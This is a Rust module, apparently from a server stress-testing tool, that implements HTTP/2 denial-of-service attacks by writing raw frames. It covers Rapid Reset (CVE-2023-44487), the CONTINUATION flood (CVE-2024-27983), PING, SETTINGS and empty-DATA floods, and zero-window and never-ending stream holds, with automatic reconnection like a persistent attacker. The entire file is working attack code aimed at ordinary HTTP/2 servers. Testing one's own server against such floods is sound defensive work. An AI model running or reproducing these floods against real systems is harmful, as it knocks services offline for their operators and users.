//! The HTTP/2 attacker: connections speaking h2c by prior knowledge, with frames written by
//! hand (a 9-byte header and a payload; request heads as HPACK literals and static-table
//! indices, nothing compressed), each shaped by an [`H2Attack`]: a flood written as fast as
//! the server takes it, or streams opened and then held.
//!
//! The floods of issue 21 and the CVEs they are known by:
//!
//! | attack | what each connection sends | reads |
//! | --- | --- | --- |
//! | [`H2Attack::RapidReset`] | `GET /big.bin` (HEADERS with END_STREAM) and at once `RST_STREAM(CANCEL)`, again and again (CVE-2023-44487) | yes |
//! | [`H2Attack::Continuation`] | one HEADERS without END_HEADERS, then CONTINUATION frames of 16 KB of fields, never ending the block (CVE-2024-27983) | yes |
//! | [`H2Attack::Ping`] | PING frames, never reading the acknowledgements | no |
//! | [`H2Attack::Settings`] | SETTINGS frames, never reading the acknowledgements | no |
//! | [`H2Attack::EmptyData`] | a `POST /echo` stream, then empty DATA frames on it | yes |
//! | [`H2Attack::ZeroWindow`] | `SETTINGS_INITIAL_WINDOW_SIZE` 0, then 100 `GET /big.bin`, never a WINDOW_UPDATE: held | yes |
//! | [`H2Attack::NoEnd`] | 100 `POST /echo` streams of one byte each, never END_STREAM: held | yes |
//!
//! All connections of an attack run on one thread, non-blocking: each writes what is due
//! until the kernel stops taking it, reads what has come (the reading kinds), and is opened
//! again after a back-off when the server closes it, as a persistent attacker would.
//! Reading is parsing frames: a GOAWAY is counted by its error code, a SETTINGS is
//! acknowledged (so a held connection is a well-formed one), everything else is dropped.

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use crate::swarm::Tally;

/// One of the HTTP/2 attacks (see the module's table).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum H2Attack {
    RapidReset,
    Continuation,
    Ping,
    Settings,
    EmptyData,
    ZeroWindow,
    NoEnd,
}

impl H2Attack {
    /// The attack named `name` on the command line, if it is an HTTP/2 one.
    pub fn parse(name: &str) -> Option<H2Attack> {
        Some(match name {
            "h2-rapid-reset" => H2Attack::RapidReset,
            "h2-continuation" => H2Attack::Continuation,
            "h2-ping" => H2Attack::Ping,
            "h2-settings" => H2Attack::Settings,
            "h2-empty-data" => H2Attack::EmptyData,
            "h2-zero-window" => H2Attack::ZeroWindow,
            "h2-no-end" => H2Attack::NoEnd,
            _ => return None,
        })
    }

    /// Connections at scale 1.
    fn conns(self) -> usize {
        match self {
            // The floods: few connections, each as fast as it goes.
            H2Attack::RapidReset
            | H2Attack::Continuation
            | H2Attack::Ping
            | H2Attack::Settings
            | H2Attack::EmptyData => 10,
            // The holds: many connections of 100 streams each.
            H2Attack::ZeroWindow | H2Attack::NoEnd => 200,
        }
    }

    /// Whether the connection reads what the server sends.
    fn reads(self) -> bool {
        !matches!(self, H2Attack::Ping | H2Attack::Settings)
    }

    /// Whether it writes without end (a flood) rather than holding what it opened.
    fn floods(self) -> bool {
        !matches!(self, H2Attack::ZeroWindow | H2Attack::NoEnd)
    }
}

/// Streams a holding connection opens (under the usual `MAX_CONCURRENT_STREAMS` of 128).
const HELD_STREAMS: u32 = 100;
/// Request pairs (HEADERS + RST_STREAM) per Rapid Reset batch.
const RESET_BATCH: u32 = 100;
/// Most bytes a flood queues per connection at a time.
const BATCH: usize = 64 * 1024;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// RST_STREAM's code for "the client no longer wants it".
const CANCEL: u32 = 0x8;
/// SETTINGS_INITIAL_WINDOW_SIZE's identifier.
const INITIAL_WINDOW_SIZE: u16 = 0x4;

/// Appends one frame.
fn frame(out: &mut Vec<u8>, ty: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(ty);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// A request head as an HPACK block: `:method` and `:scheme http` from the static table,
/// `:path` and `:authority` as literals without indexing (so the block is the same whatever
/// came before it).
fn request_block(post: bool, path: &str) -> Vec<u8> {
    let mut b = vec![if post { 0x83 } else { 0x82 }, 0x86];
    // Literal without indexing, name from static index 4 (:path), then 1 (:authority).
    for (index, value) in [(0x04u8, path), (0x01, "127.0.0.1")] {
        b.push(index);
        b.push(value.len() as u8); // < 127: one byte, no Huffman
        b.extend_from_slice(value.as_bytes());
    }
    b
}

/// The preface and a SETTINGS frame (empty, or setting the initial window to 0).
fn opening(zero_window: bool) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    let mut settings = Vec::new();
    if zero_window {
        settings.extend_from_slice(&INITIAL_WINDOW_SIZE.to_be_bytes());
        settings.extend_from_slice(&0u32.to_be_bytes());
    }
    frame(&mut out, SETTINGS, 0, 0, &settings);
    out
}

/// One connection.
struct Conn {
    stream: Option<TcpStream>,
    /// When it may be (re)opened, while closed.
    reopen: Instant,
    /// Bytes queued and how far they are written.
    out: Vec<u8>,
    written: usize,
    /// Bytes read and not yet parsed into whole frames.
    inbuf: Vec<u8>,
    /// The next client stream id (Rapid Reset).
    next_id: u32,
}

/// Runs `attack` at `scale` against `addr` until `until`; every socket is closed when this
/// returns.
pub fn run(addr: SocketAddr, attack: H2Attack, scale: f64, until: Instant) -> Tally {
    let n = ((attack.conns() as f64 * scale).round() as usize).max(1);
    let backoff = if attack.floods() {
        Duration::from_millis(200)
    } else {
        Duration::from_millis(500)
    };
    let start = Instant::now();
    let mut conns: Vec<Conn> = (0..n)
        .map(|_| Conn {
            stream: None,
            reopen: start,
            out: Vec::with_capacity(BATCH + 1024),
            written: 0,
            inbuf: Vec::new(),
            next_id: 1,
        })
        .collect();
    let units = Units::new(attack);
    let mut tally = Tally::default();
    let mut goaways = BTreeMap::<u32, u64>::new();
    let mut open = 0usize;
    let mut scratch = vec![0u8; 256 * 1024];
    while Instant::now() < until {
        let mut progressed = false;
        for c in conns.iter_mut() {
            let now = Instant::now();
            if c.stream.is_none() {
                if now < c.reopen {
                    continue;
                }
                match TcpStream::connect_timeout(&addr, Duration::from_secs(1)) {
                    Ok(s) if s.set_nonblocking(true).is_ok() && s.set_nodelay(true).is_ok() => {
                        c.stream = Some(s);
                        c.out.clear();
                        c.written = 0;
                        c.inbuf.clear();
                        c.next_id = 1;
                        tally.frames += units.start(&mut c.out);
                        tally.connects += 1;
                        open += 1;
                        tally.peak_open = tally.peak_open.max(open);
                    }
                    _ => {
                        tally.connect_errors += 1;
                        c.reopen = now + backoff;
                        continue;
                    }
                }
            }
            let alive = step(c, &units, attack, &mut scratch, &mut tally, &mut goaways);
            match alive {
                Ok(moved) => progressed |= moved,
                Err(()) => {
                    tally.server_closes += 1;
                    c.stream = None;
                    c.reopen = now + backoff;
                    open -= 1;
                }
            }
        }
        if !progressed {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    tally.goaways = goaways;
    tally
}

/// Writes what is due and reads what has come on one open connection. `Ok(moved)`: whether
/// any byte moved; `Err` once the server has closed it.
fn step(
    c: &mut Conn,
    units: &Units,
    attack: H2Attack,
    scratch: &mut [u8],
    tally: &mut Tally,
    goaways: &mut BTreeMap<u32, u64>,
) -> Result<bool, ()> {
    let Some(s) = c.stream.as_mut() else {
        return Ok(false);
    };
    let mut moved = false;
    loop {
        if c.written == c.out.len() {
            c.out.clear();
            c.written = 0;
            if !attack.floods() {
                break;
            }
            tally.frames += units.more(&mut c.out, &mut c.next_id);
        }
        match s.write(&c.out[c.written..]) {
            Ok(0) => return Err(()),
            Ok(k) => {
                c.written += k;
                tally.bytes_out += k as u64;
                moved = true;
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => return Err(()),
        }
    }
    if !attack.reads() {
        return Ok(moved);
    }
    loop {
        match s.read(scratch) {
            Ok(0) => return Err(()),
            Ok(k) => {
                tally.bytes_in += k as u64;
                moved = true;
                // Whole frames are parsed; only headers and small payloads are kept: a
                // DATA frame's bytes are dropped as soon as they are past.
                c.inbuf.extend_from_slice(&scratch[..k]);
                let used = frames(&c.inbuf, |ty, flags, payload| {
                    if ty == GOAWAY
                        && let Some(code) = payload.get(4..8)
                    {
                        let code = u32::from_be_bytes([code[0], code[1], code[2], code[3]]);
                        *goaways.entry(code).or_default() += 1;
                    }
                    if ty == SETTINGS && flags & ACK == 0 && c.out.len() < BATCH {
                        frame(&mut c.out, SETTINGS, ACK, 0, &[]);
                    }
                });
                c.inbuf.drain(..used);
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => return Ok(moved),
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => return Err(()),
        }
    }
}

/// Calls `f(type, flags, payload)` for each whole frame at the start of `buf`; returns the
/// bytes they span.
fn frames(buf: &[u8], mut f: impl FnMut(u8, u8, &[u8])) -> usize {
    let mut at = 0;
    while let Some(h) = buf.get(at..at + 9) {
        let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
        let Some(payload) = buf.get(at + 9..at + 9 + len) else {
            break;
        };
        f(h[3], h[4], payload);
        at += 9 + len;
    }
    at
}

/// What an attack writes, prebuilt where it repeats.
struct Units {
    attack: H2Attack,
    /// The preface and what follows it at once.
    start: Vec<u8>,
    start_frames: u64,
    /// A flood's repeated frame, many times over, up to [`BATCH`] bytes (empty for Rapid
    /// Reset, whose stream ids change).
    repeat: Vec<u8>,
    repeat_frames: u64,
    /// Rapid Reset's request block.
    get: Vec<u8>,
}

impl Units {
    fn new(attack: H2Attack) -> Units {
        let mut start = opening(attack == H2Attack::ZeroWindow);
        let mut start_frames = 1;
        let mut unit = Vec::new();
        match attack {
            H2Attack::RapidReset => {}
            H2Attack::Continuation => {
                // A block that never ends: HEADERS without END_HEADERS, then CONTINUATION
                // frames of fields `x-a: aaa…` (literals without indexing, new names).
                frame(
                    &mut start,
                    HEADERS,
                    END_STREAM,
                    1,
                    &request_block(false, "/"),
                );
                start_frames += 1;
                let mut fragment = Vec::new();
                while fragment.len() + 126 <= 16 * 1024 {
                    fragment.extend_from_slice(&[0x00, 3, b'x', b'-', b'a', 120]);
                    fragment.extend_from_slice(&[b'a'; 120]);
                }
                frame(&mut unit, CONTINUATION, 0, 1, &fragment);
            }
            H2Attack::Ping => frame(&mut unit, PING, 0, 0, b"attack!!"),
            H2Attack::Settings => frame(&mut unit, SETTINGS, 0, 0, &[]),
            H2Attack::EmptyData => {
                frame(
                    &mut start,
                    HEADERS,
                    END_HEADERS,
                    1,
                    &request_block(true, "/echo"),
                );
                start_frames += 1;
                frame(&mut unit, DATA, 0, 1, &[]);
            }
            H2Attack::ZeroWindow | H2Attack::NoEnd => {
                let post = attack == H2Attack::NoEnd;
                let (flags, path) = if post {
                    (END_HEADERS, "/echo")
                } else {
                    (END_HEADERS | END_STREAM, "/big.bin")
                };
                let block = request_block(post, path);
                for i in 0..HELD_STREAMS {
                    let id = 1 + 2 * i;
                    frame(&mut start, HEADERS, flags, id, &block);
                    start_frames += 1;
                    if post {
                        frame(&mut start, DATA, 0, id, b"x");
                        start_frames += 1;
                    }
                }
            }
        }
        let (repeat, repeat_frames) = if unit.is_empty() {
            (Vec::new(), 0)
        } else {
            let times = (BATCH / unit.len()).max(1);
            (unit.repeat(times), times as u64)
        };
        Units {
            attack,
            start,
            start_frames,
            repeat,
            repeat_frames,
            get: request_block(false, "/big.bin"),
        }
    }

    /// Queues the opening; returns the frames queued.
    fn start(&self, out: &mut Vec<u8>) -> u64 {
        out.extend_from_slice(&self.start);
        self.start_frames
    }

    /// Queues the next batch of a flood; returns the frames queued.
    fn more(&self, out: &mut Vec<u8>, next_id: &mut u32) -> u64 {
        if self.attack != H2Attack::RapidReset {
            out.extend_from_slice(&self.repeat);
            return self.repeat_frames;
        }
        let mut n = 0;
        for _ in 0..RESET_BATCH {
            let id = *next_id;
            if id > 0x7fff_fff0 {
                break; // out of stream ids: the server will close, we reconnect
            }
            *next_id += 2;
            frame(out, HEADERS, END_HEADERS | END_STREAM, id, &self.get);
            frame(out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
            n += 2;
        }
        n
    }
}

/// The name of a GOAWAY error code (RFC 9113 §7).
pub fn code_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x3 => "FLOW_CONTROL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("0x{other:x}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_split_a_stream_of_bytes_and_keep_a_partial_frame() {
        let mut buf = Vec::new();
        frame(&mut buf, PING, 0, 0, b"12345678");
        frame(&mut buf, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 0xb]);
        let whole = buf.len();
        buf.extend_from_slice(&[0, 0, 8, PING]);
        let mut seen = Vec::new();
        let used = frames(&buf, |ty, _, p| seen.push((ty, p.len())));
        assert_eq!(used, whole);
        assert_eq!(seen, [(PING, 8), (GOAWAY, 8)]);
    }
}
